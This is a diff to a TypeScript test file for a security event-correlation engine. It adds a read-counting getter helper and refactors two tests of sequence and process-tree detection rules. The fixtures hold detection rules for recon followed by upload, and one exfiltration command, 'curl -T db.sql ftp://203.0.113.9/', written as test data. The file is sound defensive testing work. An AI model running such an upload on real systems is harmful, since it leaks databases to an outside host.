@@ -197,6 +197,18 @@ rules:
 
 const sshFailure = (seconds: number, ip: string, user = 'root') => ev('ssh_login', seconds, { 'event.outcome': 'failure', 'source.ip': ip, 'user.name': user });
 
+/** Makes `field` of the event's process a getter that counts its reads in `reads.count`. */
+function countReads(event: Record<string, unknown>, field: string, value: string, reads: { count: number }): Record<string, unknown> {
+  Object.defineProperty(event['process'], field, {
+    enumerable: true,
+    get() {
+      reads.count++;
+      return value;
+    },
+  });
+  return event;
+}
+
 describe('correlation: later steps only where a group waits', () => {
   it('does not evaluate a later step of an ordered sequence when no group under its keys has reached the step before', () => {
     const set = load(`
@@ -211,27 +223,17 @@ rules:
       - condition: event.action = exec and process.name = whoami
       - condition: event.action = exec and process.name = curl and process.command_line contains "-T"
 `);
-    let reads = 0;
-    const counted = (host: string, seconds: number) => {
-      const e = ev('exec', seconds, { 'host.name': host, 'process.name': 'curl' });
-      Object.defineProperty(e['process'], 'command_line', {
-        enumerable: true,
-        get() {
-          reads++;
-          return 'curl -T db.sql ftp://203.0.113.9/';
-        },
-      });
-      return e;
-    };
+    const reads = { count: 0 };
+    const counted = (host: string, seconds: number) => countReads(ev('exec', seconds, { 'host.name': host, 'process.name': 'curl' }), 'command_line', 'curl -T db.sql ftp://203.0.113.9/', reads);
     // Nothing waits on web-02, nor anywhere yet: the second step's command line is never read.
     assert.equal(feed(set, [counted('web-01', 0), counted('web-02', 1)]).length, 0);
-    assert.equal(reads, 0);
+    assert.equal(reads.count, 0);
     // web-01 waits after its whoami: its curl is evaluated (and completes the sequence); web-02's is not.
     assert.equal(feed(set, [recon('web-01', 2), counted('web-02', 3)]).length, 0);
-    assert.equal(reads, 0);
+    assert.equal(reads.count, 0);
     const hits = feed(set, [counted('web-01', 4)]);
     assert.equal(hits.length, 1);
-    assert.ok(reads >= 1);
+    assert.ok(reads.count >= 1);
   });
 
   it('passes over the later step of a process tree sequence for a process under no open group, and counts groups again once they close', () => {
@@ -247,36 +249,32 @@ rules:
       - condition: event.action = connect and process.name = python3
       - condition: event.action = exec and process.name = sh and not process.working_directory = /nowhere
 `);
-    let reads = 0;
-    const shell = (seconds: number, pid: number, ancestors: string[]) => {
-      const e = ev('exec', seconds, {
-        'process.name': 'sh',
-        'process.entity_id': `web-01:${pid}:1`,
-        'process.parent': { pid: pid - 1, entity_id: ancestors[0] ?? 'web-01:1:0' },
-        'hades.ancestors': ancestors.map((id, i) => ({ pid: pid - 1 - i, entity_id: id, name: 'x' })),
-      });
-      Object.defineProperty(e['process'], 'working_directory', {
-        enumerable: true,
-        get() {
-          reads++;
-          return '/root';
-        },
-      });
-      return e;
-    };
+    const reads = { count: 0 };
+    const shell = (seconds: number, pid: number, ancestors: string[]) =>
+      countReads(
+        ev('exec', seconds, {
+          'process.name': 'sh',
+          'process.entity_id': `web-01:${pid}:1`,
+          'process.parent': { pid: pid - 1, entity_id: ancestors[0] ?? 'web-01:1:0' },
+          'hades.ancestors': ancestors.map((id, i) => ({ pid: pid - 1 - i, entity_id: id, name: 'x' })),
+        }),
+        'working_directory',
+        '/root',
+        reads,
+      );
     const connect = (seconds: number, id: string) => ev('connect', seconds, { 'process.name': 'python3', 'process.entity_id': id });
     // A shell under no interpreter that connected: its working folder is not read.
     assert.equal(feed(set, [shell(0, 50, ['web-01:49:1'])]).length, 0);
-    assert.equal(reads, 0);
+    assert.equal(reads.count, 0);
     // python3 (web-01:100:1) connects; a shell under another tree is still passed over, one under it fires.
     assert.equal(feed(set, [connect(1, 'web-01:100:1'), shell(2, 60, ['web-01:59:1'])]).length, 0);
-    assert.equal(reads, 0);
+    assert.equal(reads.count, 0);
     assert.equal(feed(set, [shell(3, 102, ['web-01:101:1', 'web-01:100:1'])]).length, 1);
-    assert.ok(reads >= 1);
+    assert.ok(reads.count >= 1);
     // The run is over and its group gone: a second shell under the same interpreter is passed over.
-    const before = reads;
+    const before = reads.count;
     assert.equal(feed(set, [shell(4, 104, ['web-01:103:1', 'web-01:100:1'])]).length, 0);
-    assert.equal(reads, before);
+    assert.equal(reads.count, before);
   });
 });
 
